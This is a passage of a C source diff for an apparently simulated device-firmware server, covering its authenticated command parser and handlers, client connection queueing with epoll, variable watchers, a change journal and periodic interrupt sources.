+    client_write(req->client_sock, reply, len);
+    req->reply = "";
+    return 1;
+}
+
+/* Replies with the number, minimum, maximum and mean of the values written to a variable between two times (inclusive, in
+ * nanoseconds since the epoch) according to the history store. */
+static int
+cmd_range(struct ClientRequest *req) {
+    static char reply[128];
+    struct Aggregate agg;
+    int x = req->args[0].var, len;
+
+    if (x < 0 || x >= VAR_LAST || store_fd < 0 || req->args[1].value < 0 || req->args[2].value < req->args[1].value) {
+        req->reply = ERR_BAD_RANGE;
+        return 0;
+    }
+    store_query(req->dev, x, req->args[1].value, req->args[2].value, &agg);
+    if (agg.count) {
+        len = sprintf(reply, "count=%llu min=", (unsigned long long)agg.count);
+        len += var_format(reply+len, x, agg.min);
+        len += sprintf(reply+len, " max=");
+        len += var_format(reply+len, x, agg.max);
+        sprintf(reply+len, " avg=%.3f\n", (double)agg.sum / agg.count / decimal_scale[var_schema[x].frac_digits]);
+    } else {
+        strcpy(reply, "count=0\n");
+    }
+    req->reply = reply;
+    return 1;
+}
+
+/* Replies with the least, greatest or mean value written to a variable in a time window, as for "range", or with "none" if
+ * there were no writes in the window. */
+static int
+cmd_window(struct ClientRequest *req) {
+    static char reply[64];
+    struct Aggregate agg;
+    int x = req->args[0].var;
+
+    if (x < 0 || x >= VAR_LAST || store_fd < 0 || req->args[1].value < 0 || req->args[2].value < req->args[1].value) {
+        req->reply = ERR_BAD_RANGE;
+        return 0;
+    }
+    store_query(req->dev, x, req->args[1].value, req->args[2].value, &agg);
+    if (!agg.count)
+        strcpy(reply, "none\n");
+    else if (req->cmd == CMD_MIN)
+        strcat(reply + var_format(reply, x, agg.min), "\n");
+    else if (req->cmd == CMD_MAX)
+        strcat(reply + var_format(reply, x, agg.max), "\n");
+    else
+        sprintf(reply, "%.3f\n", (double)agg.sum / agg.count / decimal_scale[var_schema[x].frac_digits]);
+    req->reply = reply;
+    return 1;
+}
+
+static int journal_follow(int sock, uint64_t from);
+
+/* Streams the changes to the state starting from a sequence number. */
+static int
+cmd_follow(struct ClientRequest *req) {
+    if (req->args[0].value < 0 || journal_follow(req->client_sock, req->args[0].value) < 0) {
+        req->reply = ERR_BAD_FOLLOW;
+        return 0;
+    }
+    return 1;
+}
+
+/* Replaces the loaded trip rules with the current contents of the rules file, or replies with the first error in it. */
+static int
+cmd_reload(struct ClientRequest *req) {
+    if (!rules_file) {
+        req->reply = ERR_RELOAD;
+        return 0;
+    }
+    if (rules_load(rules_file) < 0) {
+        req->reply = rules_error;
+        return 0;
+    }
+    return 1;
+}
+
+static void interrupts_report(int sock);
+
+static int
+cmd_interrupts(struct ClientRequest *req) {
+    interrupts_report(req->client_sock);
+    req->reply = "";
+    return 1;
+}
+
+static int whatif_fork(int sock);
+
+/* Moves the client into a what-if branch.  The branch replies; the server says nothing more to the client. */
+static int
+cmd_whatif(struct ClientRequest *req) {
+    int pid = whatif_fork(req->client_sock);
+    if (pid < 0) {
+        req->reply = ERR_WHATIF;
+        return 0;
+    }
+    if (pid > 0)
+        req->reply = "";
+    return 1;
+}
+
+static const struct ClientCommandDesc commands[CMD_LAST] = {
+    /*                    name    id                min max grp lvl bad_args     handler */
+    [CMD_NOP]          = {"nop",  CMD_NOP,          0,  0,  0,  0,  ERR_BAD_CMD, cmd_nop},
+    [CMD_EXIT]         = {"exit", CMD_EXIT,         0,  0,  0,  0,  ERR_BAD_CMD, cmd_exit},
+    [CMD_SET_VARIABLE] = {"set",  CMD_SET_VARIABLE, 2,  -1, 2,  15, ERR_BAD_SET, cmd_set_variable},
+    [CMD_GET_VARIABLES]= {"get",  CMD_GET_VARIABLES,1,  -1, 0,  0,  ERR_BAD_GET, cmd_get_variables},
+    [CMD_WATCH]        = {"watch",CMD_WATCH,        1,  -1, 1,  0,  ERR_BAD_WATCH, cmd_watch},
+    [CMD_SCAN]         = {"scan", CMD_SCAN,         0,  0,  0,  0,  ERR_BAD_CMD, cmd_scan},
+    [CMD_HISTORY]      = {"history",CMD_HISTORY,    1,  2,  0,  0,  ERR_BAD_HISTORY, cmd_history},
+    [CMD_RANGE]        = {"range",CMD_RANGE,        3,  3,  0,  0,  ERR_BAD_RANGE, cmd_range},
+    [CMD_MIN]          = {"min",  CMD_MIN,          3,  3,  0,  0,  ERR_BAD_RANGE, cmd_window},
+    [CMD_MAX]          = {"max",  CMD_MAX,          3,  3,  0,  0,  ERR_BAD_RANGE, cmd_window},
+    [CMD_AVG]          = {"avg",  CMD_AVG,          3,  3,  0,  0,  ERR_BAD_RANGE, cmd_window},
+    [CMD_CAS]          = {"cas",  CMD_CAS,          3,  3,  0,  15, ERR_BAD_SET, cmd_cas},
+    [CMD_ADD]          = {"add",  CMD_ADD,          2,  2,  0,  15, ERR_BAD_SET, cmd_add},
+    [CMD_FOLLOW]       = {"follow",CMD_FOLLOW,      1,  1,  0,  0,  ERR_BAD_FOLLOW, cmd_follow},
+    [CMD_WHATIF]       = {"whatif",CMD_WHATIF,      0,  0,  0,  0,  ERR_WHATIF, cmd_whatif},
+    [CMD_RELOAD]       = {"reload",CMD_RELOAD,      0,  0,  0,  15, ERR_RELOAD, cmd_reload},
+    [CMD_INTERRUPTS]   = {"interrupts",CMD_INTERRUPTS,0,0,  0,  0,  ERR_BAD_CMD, cmd_interrupts},
+};
+
+/* Returns non-zero if a user at authentication level LVL is NOT allowed to run command CMD. */
+int user_authorize(int lvl, int cmd) {
+    return lvl < commands[cmd].min_level;
+}
+
+int parse_input(struct ParsedCommand *pc, int client_sock) {
+    int cmd, authenticate = -1, authorize = -1, valid_cmd=1;
+    char *clientmsg;
+    const struct ClientCommandDesc *desc;
+    struct ClientRequest req;
+
+    if (pc->nwords < 4) {
+        client_write(client_sock, ERR_BAD_CMD, strlen(ERR_BAD_CMD));
+        return 1;
+    }
+
+    if (!pc->is_auth) {
+        client_write(client_sock, ERR_AUTHENTICATE_REQ, strlen(ERR_AUTHENTICATE_REQ) );
+        return 1;
+    }
+
+    authenticate = user_authenticate(pc->user, pc->passwd);
+    if (authenticate < 0) {
+        if (authenticate == AUTHENTICATE_BAD_USER) {
+            clientmsg = ERR_BAD_USER;
+        } else {
+            clientmsg = ERR_BAD_PW;
+        }
+        client_write(client_sock, clientmsg, strlen(clientmsg));
+        return 1;
+    }
+
+    cmd = pc->cmd;
+    if (cmd < 0) {
+        client_write(client_sock, ERR_BAD_CMD, strlen(ERR_BAD_CMD));
+        return 1;
+    }
+
+    authorize = user_authorize(authenticate, cmd);
+    if (authorize) {
+        client_write(client_sock, ERR_AUTHORIZE_REQ, strlen(ERR_AUTHORIZE_REQ));
+        return 1;
+    }
+
+    if (pc->device < 0 || pc->device >= ndevices) {
+        client_write(client_sock, ERR_BAD_DEVICE, strlen(ERR_BAD_DEVICE));
+        return 1;
+    }
+
+    desc = &commands[cmd];
+    req.client_sock = client_sock;
+    req.level = authenticate;
+    req.cmd = cmd;
+    req.dev = &devices[pc->device];
+    req.nargs = pc->nwords - 4;
+    req.args = pc->args;
+    req.reply = OK_CMD;
+    if (req.nargs < desc->min_args || (desc->max_args >= 0 && req.nargs > desc->max_args) ||
+        (desc->arg_group && req.nargs % desc->arg_group)) {
+        req.reply = desc->bad_args;
+        valid_cmd = 0;
+    } else {
+        valid_cmd = desc->handler(&req);
+    }
+    client_write(client_sock, req.reply, strlen(req.reply));
+
+    return valid_cmd;
+
+}
+
+/* Number of commands run through process_command so far. */
+static unsigned long ncommands = 0;
+
+/* Runs one complete command the same way for every input source: parse and execute it, then let the firmware react. */
+static void
+process_command(struct ParsedCommand *pc, int client_sock) {
+    struct Device *dev;
+    ++ncommands;
+    parse_input(pc, client_sock);
+    if (exit_requested || pc->device < 0 || pc->device >= ndevices)
+        return;
+    dev = &devices[pc->device];
+    simulate_interrupt(dev);
+    notify_watchers(dev);
+    show_variables(dev);
+    wal_sync_maybe();
+    checkpoint_maybe();
+}
+
+/******************************************************************
+ * INPUT                                                          *
+ ******************************************************************/
+
+/* Keyword automaton.  Every word with a fixed meaning in the command grammar -- "auth", the command names in the registry and
+ * the variable names -- is compiled by keywords_init into one deterministic automaton over a small alphabet of character
+ * classes.  The parser steps the automaton as each byte arrives, so by the time a word ends it already knows which keyword
+ * (if any) the word is, without comparing strings. State 0 is the dead state and state 1 is the start state. */
+#define KW_MAX_STATES 256
+#define KW_MAX_CLASSES 64
+
+struct KeywordAccept {
+    short cmd;                                          /* command ID if this state ends a command name, else -1 */
+    short var;                                          /* variable number if this state ends a variable name, else -1 */
+    char auth;                                          /* this state ends the word "auth" */
+};
+
+static unsigned char kw_class[256];                     /* character class of each byte; 0 for bytes in no keyword */
+static short kw_next[KW_MAX_STATES][KW_MAX_CLASSES];
+static struct KeywordAccept kw_accept[KW_MAX_STATES];
+static int kw_nstates, kw_nclasses;
+
+/* Adds WORD to the automaton and returns its accepting state. */
+static int
+keyword_add(const char *word) {
+    int state = 1, cls;
+    for (; *word; ++word) {
+        if (!(cls = kw_class[(unsigned char)*word])) {
+            assert(kw_nclasses < KW_MAX_CLASSES);
+            cls = kw_class[(unsigned char)*word] = kw_nclasses++;
+        }
+        if (!kw_next[state][cls]) {
+            assert(kw_nstates < KW_MAX_STATES);
+            kw_next[state][cls] = kw_nstates++;
+        }
+        state = kw_next[state][cls];
+    }
+    return state;
+}
+
+static void
+keywords_init(void) {
+    int i;
+    kw_nstates = 2;
+    kw_nclasses = 1;
+    for (i=0; i<KW_MAX_STATES; ++i)
+        kw_accept[i].cmd = kw_accept[i].var = -1;
+    kw_accept[keyword_add("auth")].auth = 1;
+    for (i=0; i<CMD_LAST; ++i) {
+        if (commands[i].name)
+            kw_accept[keyword_add(commands[i].name)].cmd = i;
+    }
+    for (i=0; i<VAR_LAST; ++i)
+        kw_accept[keyword_add(variable_name(i, 0))].var = i;
+}
+
+/* Single-pass command parser for one input stream (a client connection or a batch file).  Input may arrive in chunks of any
+ * size.  Each byte is examined once: it's appended to the word being collected in a fixed-size arena while the keyword
+ * automaton and an atoi-style integer accumulator advance, and when the word ends it's decoded according to its position
+ * in "auth USER PASSWD CMD[@DEVICE] ARGS..." into the ParsedCommand. A command runs as soon as its terminating newline
+ * arrives.
+ *
+ * Commands whose arguments repeat in groups (see arg_group) may be longer than the arena: when it fills up, the complete
+ * groups seen so far are run as a command of their own and the arena is reused for the rest of the line.  Only commands
+ * that change state have an arg_group, since a command that only replies would reply once per piece. */
+struct CommandParser {
+    char arena[TOKEN_ARENA_LEN];                        /* NUL-terminated words of the command being collected */
+    size_t used;                                        /* bytes of arena holding complete words */
+    size_t toklen;                                      /* length of the partial word that starts at arena+used */
+    int kw;                                             /* keyword automaton state for the partial word */
+    int64_t value;                                      /* leading integer of the partial word */
+    int32_t frac;                                       /* digits after the leading integer's decimal point */
+    int frac_digits;                                    /* number of digits in frac */
+    int in_fraction;                                    /* still accumulating frac's digits */
+    int frac_lost;                                      /* a non-zero digit came after the ninth */
+    int negative;                                       /* partial word started with a minus sign */
+    int in_number;                                      /* still accumulating value's digits */
+    int all_digits;                                     /* partial word consists only of digits so far */
+    size_t at;                                          /* length through the "@" in a "CMD@DEVICE" word, or 0 */
+    int cmd_kw;                                         /* keyword automaton state at the "@" */
+    int64_t cmd_value;                                  /* value at the "@" */
+    int cmd_numeric;                                    /* all_digits at the "@" */
+    struct ParsedCommand pc;                            /* the command being collected */
+    int applied;                                        /* some argument groups of this line have already been run */
+    int discard;                                        /* skip input through the next newline */
+};
+
+static void
+parser_start_word(struct CommandParser *cp) {
+    cp->toklen = 0;
+    cp->kw = 1;
+    cp->value = 0;
+    cp->frac = cp->frac_digits = cp->in_fraction = cp->frac_lost = 0;
+    cp->negative = 0;
+    cp->in_number = cp->all_digits = 1;
+    cp->at = 0;
+}
+
+static void
+parser_reset(struct CommandParser *cp) {
+    cp->used = 0;
+    cp->pc.nwords = cp->pc.is_auth = 0;
+    cp->pc.cmd = -1;
+    cp->pc.device = 0;
+    cp->applied = cp->discard = 0;
+    parser_start_word(cp);
+}
+
+/* Ends the partial word and decodes it according to its position in the command. */
+static void
+parser_end_word(struct CommandParser *cp) {
+    struct ParsedCommand *pc = &cp->pc;
+    struct KeywordAccept *acc = &kw_accept[cp->kw];
+    struct CommandArg *arg;
+    char *word = cp->arena + cp->used;
+    int64_t value = cp->negative ? -cp->value : cp->value;
+    int numeric = cp->all_digits && cp->toklen > 0;
+
+    if (!cp->toklen)
+        return;
+    word[cp->toklen] = '\0';
+    cp->used += cp->toklen + 1;
+
+    switch (pc->nwords++) {
+        case 0:
+            pc->is_auth = acc->auth;
+            break;
+        case 1:
+            pc->user = word;
+            break;
+        case 2:
+            pc->passwd = word;
+            break;
+        case 3:
+            pc->device = 0;
+            if (cp->at) {
+                pc->device = cp->all_digits && cp->toklen > cp->at ? cp->value : -1;
+                acc = &kw_accept[cp->cmd_kw];
+                value = cp->cmd_value;
+                numeric = cp->cmd_numeric;
+            }
+            if (acc->cmd >= 0) {
+                pc->cmd = acc->cmd;
+            } else if (numeric && value < CMD_LAST && commands[value].handler) {
+                pc->cmd = value;
+            } else {
+                pc->cmd = -1;
+            }
+            break;
+        default:
+            arg = &pc->args[pc->nwords - 5];
+            arg->word = word;
+            arg->value = value;
+            arg->frac = cp->frac_lost ? INT32_MIN :
+                        (cp->negative ? -cp->frac : cp->frac) * (int32_t)decimal_scale[9 - cp->frac_digits];
+            if (acc->var >= 0) {
+                arg->var = acc->var;
+            } else if (numeric && value <= 255) {
+                arg->var = value;
+            } else {
+                arg->var = -1;
+            }
+            break;
+    }
+    parser_start_word(cp);
+}
+
+/* Rejects the rest of the current line. */
+static void
+parser_reject(struct CommandParser *cp, int client_sock, const char *msg) {
+    client_write(client_sock, msg, strlen(msg));
+    parser_reset(cp);
+    cp->discard = 1;
+}
+
+/* Runs the complete argument groups collected so far as a command of their own and keeps the "auth USER PASSWD CMD" prefix
+ * and any leftover words for the rest of the line. Returns zero if that's not possible. */
+static int
+parser_apply_groups(struct CommandParser *cp, int client_sock) {
+    struct ParsedCommand *pc = &cp->pc;
+    int nargs, napply, i;
+    size_t keep_at, move_from, delta;
+
+    if (pc->nwords < 4 || pc->cmd < 0 || !commands[pc->cmd].arg_group)
+        return 0;
+    nargs = pc->nwords - 4;
+    napply = nargs - nargs % commands[pc->cmd].arg_group;
+    if (napply == 0 || napply < commands[pc->cmd].min_args)
+        return 0;
+
+    pc->nwords = 4 + napply;
+    process_command(pc, client_sock);
+    pc->nwords = 4 + nargs;
+    cp->applied = 1;
+
+    keep_at = pc->args[0].word - cp->arena;
+    move_from = napply < nargs ? (size_t)(pc->args[napply].word - cp->arena) : cp->used;
+    delta = move_from - keep_at;
+    memmove(cp->arena + keep_at, cp->arena + move_from, cp->used + cp->toklen - move_from);
+    for (i = napply; i < nargs; ++i) {
+        pc->args[i - napply] = pc->args[i];
+        pc->args[i - napply].word -= delta;
+    }
+    pc->nwords -= napply;
+    cp->used -= delta;
+    return 1;
+}
+
+/* Ends the current line, running whatever command it holds. */
+static void
+parser_end_line(struct CommandParser *cp, int client_sock) {
+    parser_end_word(cp);
+    if (!cp->discard && cp->pc.nwords > 0 && !(cp->applied && cp->pc.nwords == 4))
+        process_command(&cp->pc, client_sock);
+    parser_reset(cp);
+}
+
+/* Consumes LEN bytes of input, running each command as it's completed. Stops early if a command asks the server to exit. */
+static void
+parser_feed(struct CommandParser *cp, const char *input, size_t len, int client_sock) {
+    size_t i;
+    char c;
+    for (i=0; i<len && !exit_requested && !detaching; ++i) {
+        c = input[i];
+        if (c == '\n') {
+            parser_end_line(cp, client_sock);
+        } else if (cp->discard) {
+            /* skip */
+        } else if (c == ' ' || c == '\t' || c == '\r' || c == '\f' || c == '\v') {
+            parser_end_word(cp);
+        } else if (cp->toklen == MAX_TOKEN_LEN) {
+            parser_reject(cp, client_sock, ERR_TOKEN_TOO_LONG);
+        } else if (cp->used + cp->toklen + 1 >= sizeof(cp->arena) && !parser_apply_groups(cp, client_sock)) {
+            parser_reject(cp, client_sock, ERR_CMD_TOO_LONG);
+        } else if (exit_requested) {
+            /* stop */
+        } else if (c == '@' && cp->pc.nwords == 3 && !cp->at) {
+            /* The command word's device address starts; remember what the command name decoded to. */
+            cp->arena[cp->used + cp->toklen++] = c;
+            cp->at = cp->toklen;
+            cp->cmd_kw = cp->kw;
+            cp->cmd_value = cp->value;
+            cp->cmd_numeric = cp->all_digits && cp->toklen > 1;
+            cp->value = 0;
+            cp->in_number = cp->all_digits = 1;
+        } else {
+            cp->arena[cp->used + cp->toklen] = c;
+            cp->kw = kw_next[cp->kw][kw_class[(unsigned char)c]];
+            if (c >= '0' && c <= '9') {
+                if (cp->in_number && cp->value < INT64_MAX / 10) {
+                    cp->value = cp->value * 10 + (c - '0');
+                } else if (cp->in_fraction && cp->frac_digits < 9) {
+                    cp->frac = cp->frac * 10 + (c - '0');
+                    ++cp->frac_digits;
+                } else if (cp->in_fraction && c != '0') {
+                    cp->frac_lost = 1;
+                }
+            } else {
+                cp->all_digits = 0;
+                if (cp->toklen == 0 && (c == '-' || c == '+')) {
+                    cp->negative = c == '-';
+                } else {
+                    cp->in_fraction = c == '.' && cp->in_number;
+                    cp->in_number = 0;
+                }
+            }
+            ++cp->toklen;
+        }
+    }
+}
+
+
+
+/******************************************************************
+ * CONNECTIONS                                                    *
+ ******************************************************************/
+
+/* A variable of some device watched by a client. */
+struct Subscription {
+    struct Device *dev;
+    int var;
+    int pos;                                            /* index of the client in the device's watch list for var */
+};
+
+/* State for one connected client. */
+struct Connection {
+    int sock;
+    struct CommandParser parser;
+    struct Subscription *subs;                          /* everything this client watches */
+    int nsubs, subs_cap;
+    uint64_t follow_next;                               /* next change to send to a follower, or 0 if not following */
+    char *out;                                          /* output the socket hasn't taken yet */
+    size_t out_len, out_sent, out_cap;                  /* bytes in out, bytes of those sent, and out's size */
+    uint32_t events;                                    /* what epoll waits for on the socket; see connection_watch */
+};
+
+static struct Connection **connections;                 /* indexed by socket descriptor */
+static int connections_size;
+static int nfollowers;                                  /* connections with follow_next set */
+
+/* The clients watching one variable of one device.  Each entry points back to the client's subscription, which records the
+ * entry's index, so a client can be removed in constant time.  A change is formatted once and then sent to every watcher. */
+struct Watcher {
+    struct Connection *conn;
+    int sub;                                            /* index in conn->subs */
+};
+
+struct WatchList {
+    struct Watcher *w;
+    int n, cap;
+};
+
+static struct Connection *
+connection_new(int sock) {
+    struct Connection *conn, **grown;
+    int size;
+
+    if (sock >= connections_size) {
+        size = connections_size ? connections_size : 64;
+        while (size <= sock)
+            size *= 2;
+        if (!(grown = realloc(connections, size * sizeof *connections)))
+            return NULL;
+        memset(grown + connections_size, 0, (size - connections_size) * sizeof *grown);
+        connections = grown;
+        connections_size = size;
+    }
+    if (!(conn = malloc(sizeof *conn)))
+        return NULL;
+    conn->sock = sock;
+    parser_reset(&conn->parser);
+    conn->subs = NULL;
+    conn->nsubs = conn->subs_cap = 0;
+    conn->follow_next = 0;
+    conn->out = NULL;
+    conn->out_len = conn->out_sent = conn->out_cap = 0;
+    conn->events = EPOLLIN;
+    return connections[sock] = conn;
+}
+
+/* Registers the client on SOCK as a watcher of variable VAR of device DEV.  Returns -1 if SOCK isn't a connected client. */
+static int
+watch_add(int sock, struct Device *dev, int var) {
+    struct Connection *conn = sock >= 0 && sock < connections_size ? connections[sock] : NULL;
+    struct WatchList *wl;
+    struct Subscription *subs;
+    struct Watcher *w;
+    int i;
+
+    if (!conn)
+        return -1;
+    for (i=0; i<conn->nsubs; ++i) {
+        if (conn->subs[i].dev == dev && conn->subs[i].var == var)
+            return 0;
+    }
+    if (!dev->watchers && !(dev->watchers = calloc(256, sizeof *dev->watchers)))
+        return -1;
+    wl = &dev->watchers[var];
+    if (wl->n == wl->cap) {
+        if (!(w = realloc(wl->w, (wl->cap ? 2*wl->cap : 16) * sizeof *w)))
+            return -1;
+        wl->w = w;
+        wl->cap = wl->cap ? 2*wl->cap : 16;
+    }
+    if (conn->nsubs == conn->subs_cap) {
+        if (!(subs = realloc(conn->subs, (conn->subs_cap ? 2*conn->subs_cap : 8) * sizeof *subs)))
+            return -1;
+        conn->subs = subs;
+        conn->subs_cap = conn->subs_cap ? 2*conn->subs_cap : 8;
+    }
+    conn->subs[conn->nsubs].dev = dev;
+    conn->subs[conn->nsubs].var = var;
+    conn->subs[conn->nsubs].pos = wl->n;
+    wl->w[wl->n].conn = conn;
+    wl->w[wl->n].sub = conn->nsubs++;
+    ++wl->n;
+    return 0;
+}
+
+static void
+watch_remove(struct Subscription *sub) {
+    struct WatchList *wl = &sub->dev->watchers[sub->var];
+    struct Watcher last = wl->w[--wl->n];
+    wl->w[sub->pos] = last;
+    last.conn->subs[last.sub].pos = sub->pos;
+}
+
+static void
+connection_close(struct Connection *conn) {
+    int i;
+    for (i=0; i<conn->nsubs; ++i)
+        watch_remove(&conn->subs[i]);
+    if (conn->follow_next)
+        --nfollowers;
+    free(conn->subs);
+    free(conn->out);
+    close(conn->sock);
+    connections[conn->sock] = NULL;
+    free(conn);
+}
+
+/* Client output.  Sends to clients never block: whatever a client's socket doesn't take is queued on the connection, and
+ * while anything is queued the server waits for the socket to drain (EPOLLOUT) instead of reading more of the client's
+ * commands.  A client that doesn't read its replies thus holds up only itself, and its queue holds at most the replies to
+ * one READ_BUF_LEN read of commands. */
+
+/* Sends as much of the client's queued output as its socket takes.  If sending fails, the output is dropped; the client
+ * is closed when reading from it fails too. */
+static void
+connection_flush(struct Connection *conn) {
+    ssize_t n;
+    while (conn->out_sent < conn->out_len) {
+        n = send(conn->sock, conn->out + conn->out_sent, conn->out_len - conn->out_sent, MSG_DONTWAIT | MSG_NOSIGNAL);
+        if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK))
+            return;
+        if (n < 0)
+            break;
+        conn->out_sent += n;
+    }
+    conn->out_len = conn->out_sent = 0;
+}
+
+/* Sends LEN bytes at BUF to the client on SOCK without blocking, queueing what the socket doesn't take. */
+static void
+connection_write(int sock, const void *buf, size_t len) {
+    struct Connection *conn = sock >= 0 && sock < connections_size ? connections[sock] : NULL;
+    size_t cap;
+    ssize_t n = 0;
+    char *grown;
+
+    if (!conn) {
+        write(sock, buf, len);
+        return;
+    }
+    if (conn->out_len == conn->out_sent) {
+        n = send(sock, buf, len, MSG_DONTWAIT | MSG_NOSIGNAL);
+        if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK)
+            return;
+        if (n < 0)
+            n = 0;
+        if ((size_t)n == len)
+            return;
+        conn->out_len = conn->out_sent = 0;
+    }
+    if (conn->out_len + len - n > conn->out_cap) {
+        for (cap = conn->out_cap ? conn->out_cap : 4096; cap < conn->out_len + len - n; cap *= 2)
+            ;
+        if (!(grown = realloc(conn->out, cap))) {
+            perror("connection_write");
+            return;
+        }
+        conn->out = grown;
+        conn->out_cap = cap;
+    }
+    memcpy(conn->out + conn->out_len, (const char *)buf + n, len - n);
+    conn->out_len += len - n;
+}
+
+/* Makes epoll on EPFD wait for the client's socket to drain if it has queued output, and for its commands otherwise. */
+static void
+connection_watch(int epfd, struct Connection *conn) {
+    struct epoll_event ev;
+    uint32_t events = conn->out_len > conn->out_sent ? EPOLLOUT : EPOLLIN;
+
+    if (events == conn->events)
+        return;
+    ev.events = conn->events = events;
+    ev.data.fd = conn->sock;
+    epoll_ctl(epfd, EPOLL_CTL_MOD, conn->sock, &ev);
+}
+
+/* Sends the new value of each watched variable of DEV that changed since the last call to all of its watchers.  Sends don't
+ * block; a watcher whose socket buffer is full misses the notification rather than stalling the server. */
+static void
+notify_watchers(struct Device *dev) {
+    char msg[128];
+    uint64_t bits;
+    int i, w, k, len;
+    struct WatchList *wl;
+
+    for (w=0; w<256/64; ++w) {
+        for (bits = dev->watchers ? dev->changed[w] : 0; bits; bits &= bits - 1) {
+            i = w*64 + __builtin_ctzll(bits);
+            wl = &dev->watchers[i];
+            if (!wl->n)
+                continue;
+            if (ndevices > 1)
+                len = sprintf(msg, "changed@%u %s=", (unsigned)(dev - devices), variable_name(i, 1));
+            else
+                len = sprintf(msg, "changed %s=", variable_name(i, 1));
+            len += var_format(msg+len, i, DEV_VAR(dev, i));
+            msg[len++] = '\n';
+            for (k=0; k<wl->n; ++k) {
+                if (wl->w[k].conn->out_len == wl->w[k].conn->out_sent)
+                    send(wl->w[k].conn->sock, msg, len, MSG_DONTWAIT | MSG_NOSIGNAL);
+            }
+        }
+        dev->changed[w] = 0;
+    }
+}
+
+/* Forks a what-if branch for the client on SOCK.  Returns the branch's process ID in the server, 0 in the branch, or -1 if
+ * there's no branch.  The branch drops the other clients, the write-ahead log, the state file and the shared-memory
+ * export, and only reads the history store, so it can't disturb them. */
+static int
+whatif_fork(int sock) {
+    struct Connection *conn = sock >= 0 && sock < connections_size ? connections[sock] : NULL;
+    int i, pid;
+
+    if (!conn)
+        return -1;
+    fflush(stdout);
+    if ((pid = fork()) < 0)
+        return -1;
+    if (pid > 0) {
+        detaching = 1;
+        return pid;
+    }
+    in_branch = 1;
+    for (i=0; i<connections_size; ++i) {
+        if (connections[i] && connections[i] != conn)
+            connection_close(connections[i]);
+    }
+    if (wal_fd >= 0)
+        close(wal_fd);
+    wal_fd = -1;
+    wal_ngroup = 0;
+    state_map = NULL;
+    shm_map = NULL;
+    if (!freopen("/dev/null", "w", stdout))
+        return -1;
+    return 0;
+}
+
+/* Formats the journal's changes from *NEXT on into BUF, which has room for at least JOURNAL_BATCH changes, and advances *NEXT
+ * past them.  If change *NEXT is no longer in the journal, formats an error instead and sets *NEXT to zero. */
+static size_t
+journal_format(char *buf, uint64_t *next) {
+    const struct WalRecord *r;
+    size_t len = 0;
+    int n;
+
+    if (*next < journal_oldest()) {
+        *next = 0;
+        return sprintf(buf, ERR_BAD_FOLLOW);
+    }
+    for (n=0; n<JOURNAL_BATCH && *next<=change_seq; ++n, ++*next) {
+        r = &journal[*next & (journal_len - 1)];
+        len += sprintf(buf+len, "journal %llu %u ", (unsigned long long)r->seq, (unsigned)r->device);
+        if (r->type == WAL_TRIP) {
+            len += sprintf(buf+len, "tripped\n");
+        } else {
+            len += sprintf(buf+len, "%s=", variable_name(r->var, 1));
+            len += var_format(buf+len, r->var, r->value);
+            buf[len++] = '\n';
+        }
+    }
+    return len;
+}
+
+static char journal_buf[JOURNAL_BATCH * 128];
+
+/* Makes the client on SOCK a follower of the changes from number FROM (0 for the oldest kept) on.  Batch input has no
+ * connection, so it is sent the changes made so far right away.  Returns -1 if FROM isn't in the journal. */
+static int
+journal_follow(int sock, uint64_t from) {
+    struct Connection *conn = sock >= 0 && sock < connections_size ? connections[sock] : NULL;
+
+    if (!journal_len || from > change_seq + 1 || (from && from < journal_oldest()))
+        return -1;
+    if (!from)
+        from = journal_oldest();
+    if (!conn) {
+        while (from <= change_seq)
+            client_write(sock, journal_buf, journal_format(journal_buf, &from));
+        return 0;
+    }
+    if (!conn->follow_next)
+        ++nfollowers;
+    conn->follow_next = from;
+    return 0;
+}
+
+/* Queues each follower's next batch of changes, for followers whose earlier output has been sent, so a follower that
+ * doesn't read can't stall the server and holds at most one batch.  A follower that falls more than the journal's length
+ * behind meanwhile is sent ERR_BAD_FOLLOW and stops following.  Returns non-zero if some follower that can take more still
+ * has changes to be sent. */
+static int
+journal_push(int epfd) {
+    struct Connection *conn;
+    int i, behind = 0;
+
+    for (i=0; i<connections_size && nfollowers; ++i) {
+        if (!(conn = connections[i]) || !conn->follow_next || conn->follow_next > change_seq ||
+            conn->out_len > conn->out_sent)
+            continue;
+        connection_write(conn->sock, journal_buf, journal_format(journal_buf, &conn->follow_next));
+        if (!conn->follow_next)
+            --nfollowers;
+        else if (conn->follow_next <= change_seq && conn->out_len == conn->out_sent)
+            behind = 1;
+        connection_watch(epfd, conn);
+    }
+    return behind;
+}
+
+/******************************************************************
+ * INTERRUPTS                                                     *
+ ******************************************************************/
+
+/* Periodic interrupt sources.  Besides the interrupt that follows each command, the server can sample a variable of a
+ * device periodically, as firmware samples its sensors, and run simulate_interrupt after each sample.  Each source (-I)
+ * reads a simulated sensor -- a signal generator producing MEAN + AMPLITUDE * sin(2 pi SIGNAL_HZ t) -- HZ times a second.
+ *
+ * Each source has a timerfd in the server's epoll set.  The timer is armed once with an absolute first deadline and a
+ * fixed interval, so deadline K is exactly K periods after the first whatever the latency of earlier samples: deadlines
+ * don't drift.  When the server gets to a source late enough that several deadlines have passed, the missed samples are
+ * counted and only the latest is taken.  The lateness of each sample (the time between its deadline and the moment it
+ * was taken) is kept as the source's jitter, reported by the "interrupts" command. */
+#define MAX_INTERRUPT_SOURCES 8
+
+struct InterruptSource {
+    const char *spec;                                   /* as given to -I */
+    int fd;                                             /* the timerfd, or -1 */
+    struct Device *dev;
+    int var;
+    uint64_t period;                                    /* nanoseconds between deadlines */
+    uint64_t start;                                     /* monotonic time of the first deadline */
+    uint64_t deadline;                                  /* monotonic time of the latest deadline taken */
+    double hz, mean, amplitude, signal_hz;
+    uint64_t samples, missed;
+    uint64_t late_min, late_max, late_sum;              /* nanoseconds from deadline to sample */
+};
+
+static struct InterruptSource interrupt_sources[MAX_INTERRUPT_SOURCES];
+static int ninterrupt_sources;
+
+/* sin(2 pi PHASE), from Bhaskara I's approximation, which is within 0.002 of the sine everywhere. */
+static double
+wave_sine(double phase) {
+    double x, sign = 1;
+    phase -= (int64_t)phase;
+    if (phase < 0)
+        phase += 1;
+    if (phase >= 0.5) {
+        phase -= 0.5;
+        sign = -1;
+    }
+    x = 2 * phase * (1 - 2 * phase);                    /* y(1-y) for the angle y = 2 PHASE in half turns */
+    return sign * 16 * x / (5 - 4 * x);
+}
+
+/* Adds the source described by SPEC, "NAME[@DEVICE]:HZ:MEAN:AMPLITUDE:SIGNAL_HZ", with MEAN and AMPLITUDE in stored units. */
+static int
